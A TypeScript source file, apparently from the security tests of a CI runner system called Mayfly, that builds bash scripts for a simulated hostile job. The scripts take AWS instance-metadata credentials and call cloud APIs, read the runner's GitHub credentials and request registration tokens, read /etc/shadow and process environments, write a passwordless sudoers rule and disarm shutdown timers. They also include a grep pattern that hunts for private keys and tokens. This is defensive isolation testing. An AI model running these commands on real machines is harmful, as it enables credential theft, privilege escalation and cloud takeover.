/** What a hostile job tries. Each try prints `<name>: <what came of it>` into the job's log. */
export interface Targets {
  /** Where AWS is. */
  readonly aws: string;
  /** Base URL of GitHub's API. */
  readonly github: string;
  readonly organization: string;
  readonly bucket: string;
  readonly mailboxTable: string;
  readonly stateTable: string;
  readonly appSecretArn: string;
  readonly queueUrl: string;
  readonly launchTemplate: string;
}

/** With the credentials that the metadata give to every process of the machine. */
export const attackAws = (to: Targets) =>
  String.raw`
token=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 600' http://169.254.169.254/latest/api/token)
metadata() { curl -s -H "X-aws-ec2-metadata-token: $token" "http://169.254.169.254/latest/meta-data/$1"; }
id=$(metadata instance-id) region=$(metadata placement/region)
json=$(metadata "iam/security-credentials/$(metadata iam/security-credentials/)")
field() { sed -n "s/.*\"$1\" *: *\"\(.*\)\".*/\1/p" <<<"$json"; }
role=$(curl -s -H "X-aws-ec2-metadata-token: $token" http://169.254.169.254/latest/user-data | sed -n "s/^ROLE_ID='\(.*\)'/\1/p")

call() { # call NAME SERVICE CURL-ARGUMENT...
  local name=$1 service=$2 reply code
  shift 2
  reply=$(curl -s -m 10 --aws-sigv4 "aws:amz:$region:$service" --user "$(field AccessKeyId):$(field SecretAccessKey)" \
    -H "x-amz-security-token: $(field Token)" -w '\n%{http_code}' "$@")
  code=$(grep -oE 'AccessDenied|UnauthorizedOperation|ConditionalCheckFailed' <<<"$reply" | head -n 1)
  echo "$name: \${code:-$(tail -n 1 <<<"$reply")}"
}
json_call() { # json_call NAME SERVICE TARGET BODY
  call "$1" "$2" -H "x-amz-target: $3" -H 'content-type: application/x-amz-json-1.0' -d "$4" '${to.aws}/'
}
ec2() { # ec2 NAME ACTION
  call "$1" ec2 -H 'content-type: application/x-www-form-urlencoded' -d "Action=$2&Version=2016-11-15" '${to.aws}/'
}
row() { # row USER-ID EXPRESSION CONDITION RETURN-VALUES
  echo "{\"TableName\":\"${to.mailboxTable}\",\"Key\":{\"id\":{\"S\":\"$1\"}},\"UpdateExpression\":\"$2\"\${3:+,\"ConditionExpression\":\"$3\"},
    \"ReturnValues\":\"$4\",\"ExpressionAttributeValues\":{\":used\":{\"S\":\"used\"},\":t\":{\"S\":\"1\"}}}"
}
take='SET jit = :used, takenAt = :t' given='attribute_exists(jit) AND jit <> :used'
other=$role:i-00000000000000001

json_call take-of-another dynamodb DynamoDB_20120810.UpdateItem "$(row "$other" "$take" "$given" UPDATED_OLD)"
json_call take-again dynamodb DynamoDB_20120810.UpdateItem "$(row "$role:$id" "$take" "$given" UPDATED_OLD)"
json_call whole-row dynamodb DynamoDB_20120810.UpdateItem "$(row "$role:$id" "$take" '' ALL_OLD)"
json_call read-row dynamodb DynamoDB_20120810.GetItem '{"TableName":"${to.mailboxTable}","Key":{"id":{"S":"x"}}}'
json_call list-rows dynamodb DynamoDB_20120810.Scan '{"TableName":"${to.mailboxTable}"}'
json_call read-state dynamodb DynamoDB_20120810.Scan '{"TableName":"${to.stateTable}"}'
json_call app-secret secretsmanager secretsmanager.GetSecretValue '{"SecretId":"${to.appSecretArn}"}'
json_call parameter ssm AmazonSSM.GetParameter '{"Name":"/mayfly/x"}'
json_call queue sqs AmazonSQS.ReceiveMessage '{"QueueUrl":"${to.queueUrl}"}'
ec2 launch "RunInstances&MinCount=1&MaxCount=1&LaunchTemplate.LaunchTemplateId=${to.launchTemplate}"
ec2 terminate "TerminateInstances&InstanceId.1=$id"
ec2 tag "CreateTags&ResourceId.1=$id&Tag.1.Key=a&Tag.1.Value=b"
ec2 list DescribeInstances
call logs-of-another s3 -X PUT -d x "${to.aws}/${to.bucket}/logs/\${other/:/%3A}/x"
call read-own-logs s3 "${to.aws}/${to.bucket}/logs/$role%3A$id/boot.log.gz"
call list-bucket s3 "${to.aws}/${to.bucket}"
call replace-runner s3 -X PUT -d x "${to.aws}/${to.bucket}/runner/x"
`.replaceAll('\\${', '${');

/** With what the runner itself has to show at GitHub. */
export const attackGitHub = (to: Targets) => String.raw`
client=$(sed -n 's/.*"[Cc]lientId" *: *"\([^"]*\)".*/\1/p' /opt/actions-runner/.credentials)
github() { # github NAME METHOD PATH
  echo "$1: $(curl -sk -m 10 -o /dev/null -w '%{http_code}' -X "$2" -H "Authorization: Bearer $client" -d '{}' "${to.github}$3")"
}
github further-runner POST /orgs/${to.organization}/actions/runners/generate-jitconfig
github registration-token POST /orgs/${to.organization}/actions/runners/registration-token
github list-runners GET /orgs/${to.organization}/actions/runners
echo "client: $client"
`;

/** On the machine, without being root. */
export const attackMachine = `
try() { # try NAME COMMAND: done, or refused
  local name=$1
  shift
  if timeout 10 bash -c "$*" >/dev/null 2>&1; then echo "$name: done"; else echo "$name: refused"; fi
}
try read-own-credentials 'cat /opt/actions-runner/.credentials'
try become-root 'sudo -n true'
try read-shadow 'cat /etc/shadow'
try read-user-data 'cat /var/lib/cloud/instance/user-data.txt'
try read-environment-of-root 'cat /proc/1/environ'
try read-boot-log 'cat /var/log/cloud-init-output.log'
try stop-boot-script 'kill -STOP $(pgrep -of scripts/part-001)'
try disarm-lifetime 'systemctl stop mayfly-lifetime.timer'
try disarm-second-boot 'rm -f /etc/systemd/system/mayfly-second-boot.service && test ! -e /etc/systemd/system/mayfly-second-boot.service'
try replace-hook 'echo exit 0 >/opt/mayfly/job-started.sh'
try replace-sudoers 'echo "runner ALL=(ALL) NOPASSWD:ALL" >/etc/sudoers.d/zz-mayfly'
`;

/**
 * As root: where on the machine something is that only Mayfly may have. One such is put there, to be found. The brackets
 * keep the search from finding itself.
 */
export const findSecrets = String.raw`
printf 'ghs_%s' 0123456789abcdefghij >/run/decoy
found=$(grep -rlE --exclude-dir=ssl '[B]EGIN (RSA )?PRIVATE KEY|"[e]ncoded_jit_config"|[g]hs_[A-Za-z0-9]{20}' \
  /etc /opt /root /home /run /tmp /var/log /var/lib/cloud /var/tmp /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null)
echo "secrets: \${found//$'\n'/ }"
`.replaceAll('\\${', '${');

/** As root: every guard that the boot script has set up. */
export const disarm = `
systemctl stop mayfly-lifetime.timer mayfly-boot-deadline.timer
rm -f /etc/systemd/system/mayfly-second-boot.service /sbin/poweroff
pkill -STOP -f scripts/part-001
echo disarmed
sleep 600
`;
